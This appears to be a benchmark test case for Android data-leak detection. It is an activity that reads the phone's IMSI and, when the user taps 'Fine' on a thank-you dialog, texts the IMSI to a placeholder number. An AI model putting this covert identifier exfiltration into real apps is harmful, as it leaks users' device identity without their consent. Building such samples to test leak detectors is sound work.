// about       The dialog has the button for which the listener sends.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.app.AlertDialog;
import android.content.DialogInterface;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity implements DialogInterface.OnClickListener {
  private String id;

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
    AlertDialog.Builder builder = new AlertDialog.Builder(this);
    builder.setMessage("Thank you for trying this app.");
    // `which` says which button it was.
    builder.setPositiveButton("Fine", this);
    builder.show();
  }

  @Override
  public void onClick(DialogInterface dialog, int which) {
    if (which == DialogInterface.BUTTON_POSITIVE) {
      SmsManager.getDefault().sendTextMessage("5550100", null, id, null, null);
    } else {
      SmsManager.getDefault().sendTextMessage("5550100", null, "hello", null, null);
    }
  }
}
